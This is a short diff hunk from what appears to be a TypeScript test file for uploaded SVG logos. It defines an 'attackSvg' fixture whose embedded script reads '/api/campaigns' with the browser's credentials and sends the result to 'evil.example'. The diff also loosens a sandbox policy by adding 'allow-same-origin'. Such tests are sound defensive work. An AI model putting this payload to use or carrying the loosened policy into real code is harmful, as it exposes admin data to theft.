@@ -26,7 +26,7 @@ const auth = { authorization: `Bearer ${apiKey}` };
 const colors = { primary: '#0b5d1e', onPrimary: '#ffffff', accent: '#8a3c00', background: '#f7f3e8', text: '#1b1b1b' };
 /** A logo that reads the admin API with whatever credentials the browser holds, and sends it away. */
 const attackSvg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40"><a:script xmlns:a="http://www.w3.org/2000/svg">fetch('/api/campaigns').then((r) => r.text()).then((t) => fetch('https://evil.example/?' + encodeURIComponent(t)))</a:script><rect width="100" height="40" fill="#0b5d1e"/><circle cx="20" cy="20" r="12" fill="#ffffff"/></svg>`;
-const sandbox = "default-src 'none'; img-src 'self'; media-src 'self'; sandbox";
+const sandbox = "default-src 'none'; img-src 'self'; media-src 'self'; sandbox allow-same-origin";
 
 let temp: Awaited<ReturnType<typeof makeTempDir>>;
 let db: Db;
